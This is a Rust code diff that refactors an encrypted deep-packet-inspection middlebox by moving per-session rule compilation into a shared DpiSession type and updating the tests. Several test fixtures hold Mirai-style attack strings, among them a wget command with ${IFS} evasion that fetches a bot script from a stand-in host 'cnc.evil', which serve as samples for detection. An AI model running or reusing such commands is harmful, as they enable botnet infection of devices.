@@ -14,9 +14,10 @@
 //! * [`PlaintextDpi`] compiles its keywords into an Aho–Corasick
 //!   automaton ([`xlf_analytics::AcAutomaton`]) once at construction and
 //!   walks each payload exactly once, O(payload + matches).
-//! * [`EncryptedDpi`] indexes per-session rule tokens in a
-//!   [`TokenIndex`] keyed by each rule's first window token and walks the
-//!   traffic token stream once, O(traffic tokens + candidate checks).
+//! * [`EncryptedDpi`] matches against a [`DpiSession`], which indexes
+//!   the session's rule tokens in a [`TokenIndex`] keyed by each rule's
+//!   first window token, and walks the traffic token stream once,
+//!   O(traffic tokens + candidate checks).
 //!
 //! The naive per-rule scans are kept as reference methods,
 //! [`PlaintextDpi::inspect_naive`] and [`EncryptedDpi::match_stream_naive`],
@@ -150,15 +151,49 @@ impl PlaintextDpi {
     }
 }
 
-/// The encrypted middlebox: holds rule *tokens* for each session and
-/// matches them against traffic token streams. It never sees plaintext.
-pub struct EncryptedDpi {
-    rules: Vec<Rule>,
+/// A rule set bound to one session: the session's tokenizer and the
+/// rule keywords compiled under it — by the rule authority, who holds
+/// the session secret via the separate XLF Core ↔ service channel the
+/// paper describes — indexed for single-pass matching. Binding costs a
+/// KDF plus a PRF per keyword window and the result is read-only, so
+/// every middlebox inspecting the session shares one
+/// ([`EncryptedDpi::new`] takes it behind an `Arc`).
+#[derive(Debug)]
+pub struct DpiSession {
+    tokenizer: Tokenizer,
     names: Vec<Arc<str>>,
-    /// Per-session compiled rule token sequences (rule order).
+    /// Compiled rule token sequences (rule order).
     compiled: Vec<Vec<Token>>,
-    /// Single-pass index over `compiled` (rebuilt on each session bind).
+    /// Single-pass index over `compiled`.
     index: TokenIndex,
+}
+
+impl DpiSession {
+    /// Compiles `rules` under `tokenizer`.
+    pub fn bind(rules: &[Rule], tokenizer: Tokenizer) -> Self {
+        let compiled: Vec<Vec<Token>> = rules
+            .iter()
+            .map(|r| tokenizer.rule_tokens(&r.keyword))
+            .collect();
+        DpiSession {
+            index: TokenIndex::build(compiled.clone()),
+            names: intern_names(rules),
+            compiled,
+            tokenizer,
+        }
+    }
+
+    /// The session's tokenizer: what the endpoint tokenizes its traffic
+    /// with.
+    pub fn tokenizer(&self) -> &Tokenizer {
+        &self.tokenizer
+    }
+}
+
+/// The encrypted middlebox: matches a session's rule *tokens* against
+/// traffic token streams. It never sees plaintext.
+pub struct EncryptedDpi {
+    session: Arc<DpiSession>,
     /// Per-rule first-match buffer reused by every inspection.
     scratch: Vec<Option<usize>>,
     bus: Option<EvidenceBus>,
@@ -169,21 +204,17 @@ pub struct EncryptedDpi {
 impl std::fmt::Debug for EncryptedDpi {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("EncryptedDpi")
-            .field("rules", &self.rules.len())
+            .field("rules", &self.session.names.len())
             .field("stats", &self.stats)
             .finish_non_exhaustive()
     }
 }
 
 impl EncryptedDpi {
-    /// Creates the middlebox with a rule set (not yet bound to a session).
-    pub fn new(rules: Vec<Rule>) -> Self {
-        let names = intern_names(&rules);
+    /// Creates a middlebox inspecting `session`.
+    pub fn new(session: Arc<DpiSession>) -> Self {
         EncryptedDpi {
-            rules,
-            names,
-            compiled: Vec::new(),
-            index: TokenIndex::default(),
+            session,
             scratch: Vec::new(),
             bus: None,
             stats: DpiStats::default(),
@@ -196,22 +227,14 @@ impl EncryptedDpi {
         self
     }
 
-    /// Binds the rule set to a session: the rule authority (who holds the
-    /// session secret via the separate XLF Core ↔ service channel the
-    /// paper describes) compiles keyword tokens with the session's
-    /// tokenizer and indexes them for single-pass matching.
-    pub fn bind_session(&mut self, tokenizer: &Tokenizer) {
-        self.compiled = self
-            .rules
-            .iter()
-            .map(|r| tokenizer.rule_tokens(&r.keyword))
-            .collect();
-        self.index = TokenIndex::build(self.compiled.clone());
+    /// The session this middlebox inspects.
+    pub fn session(&self) -> &Arc<DpiSession> {
+        &self.session
     }
 
     fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
-        self.index.find_first_per_rule_into(tokens, scratch);
-        matches_from_firsts(&self.names, scratch)
+        self.session.index.find_first_per_rule_into(tokens, scratch);
+        matches_from_firsts(&self.session.names, scratch)
     }
 
     /// Pure matching over one traffic token stream: no counters, no
@@ -226,11 +249,12 @@ impl EncryptedDpi {
     /// Kept for A/B benchmarking and as the equivalence oracle in tests.
     pub fn match_stream_naive(&self, tokens: &[Token]) -> Vec<DpiMatch> {
         let firsts: Vec<Option<usize>> = self
+            .session
             .compiled
             .iter()
             .map(|rule| match_rule(tokens, rule).first().copied())
             .collect();
-        matches_from_firsts(&self.names, &firsts)
+        matches_from_firsts(&self.session.names, &firsts)
     }
 
     fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
@@ -352,6 +376,11 @@ mod tests {
         default_rules()
     }
 
+    /// A middlebox over the default rules bound to `endpoint`'s session.
+    fn middlebox(endpoint: &Tokenizer) -> EncryptedDpi {
+        EncryptedDpi::new(Arc::new(DpiSession::bind(&rules(), endpoint.clone())))
+    }
+
     #[test]
     fn plaintext_dpi_finds_keywords() {
         let dpi = PlaintextDpi::new(rules());
@@ -407,8 +436,7 @@ mod tests {
         // The endpoint tokenizes its (encrypted) payload; the rule
         // authority compiles rules under the same session tokenizer.
         let endpoint = Tokenizer::new(b"session secret").unwrap();
-        let mut middlebox = EncryptedDpi::new(rules());
-        middlebox.bind_session(&endpoint);
+        let mut middlebox = middlebox(&endpoint);
         let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
         let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");
 
@@ -434,8 +462,7 @@ mod tests {
         ];
         let plain = PlaintextDpi::new(rules());
         let endpoint = Tokenizer::new(b"s").unwrap();
-        let mut enc = EncryptedDpi::new(rules());
-        enc.bind_session(&endpoint);
+        let mut enc = middlebox(&endpoint);
         for payload in payloads {
             let p_hit = !plain.inspect(payload).is_empty();
             let e_hit = !enc
@@ -447,9 +474,8 @@ mod tests {
 
     #[test]
     fn indexed_and_naive_encrypted_engines_agree() {
-        let mut dpi = EncryptedDpi::new(rules());
         let endpoint = Tokenizer::new(b"s").unwrap();
-        dpi.bind_session(&endpoint);
+        let dpi = middlebox(&endpoint);
         for payload in [
             &b"wget${IFS}http://cnc.evil/bot.sh"[..],
             b"prefix /bin/busybox MIRAI suffix",
@@ -476,15 +502,13 @@ mod tests {
         let endpoint = Tokenizer::new(b"s").unwrap();
         let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
 
-        let mut single = EncryptedDpi::new(rules());
-        single.bind_session(&endpoint);
+        let mut single = middlebox(&endpoint);
         let expected: Vec<Vec<DpiMatch>> = streams
             .iter()
             .map(|t| single.inspect("d", t, SimTime::ZERO))
             .collect();
 
-        let mut batched = EncryptedDpi::new(rules());
-        batched.bind_session(&endpoint);
+        let mut batched = middlebox(&endpoint);
         assert_eq!(
             batched.inspect_batch("d", &streams, SimTime::ZERO),
             expected
@@ -498,8 +522,7 @@ mod tests {
 
     #[test]
     fn wrong_session_tokens_never_match() {
-        let mut middlebox = EncryptedDpi::new(rules());
-        middlebox.bind_session(&Tokenizer::new(b"session A").unwrap());
+        let mut middlebox = middlebox(&Tokenizer::new(b"session A").unwrap());
         let other_endpoint = Tokenizer::new(b"session B").unwrap();
         let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
         assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
@@ -509,8 +532,7 @@ mod tests {
     fn matches_emit_evidence() {
         let (bus, drain) = EvidenceBus::new();
         let endpoint = Tokenizer::new(b"s").unwrap();
-        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
-        middlebox.bind_session(&endpoint);
+        let mut middlebox = middlebox(&endpoint).with_bus(bus);
         middlebox.inspect(
             "cam",
             &endpoint.tokenize(b"/bin/busybox MIRAI"),
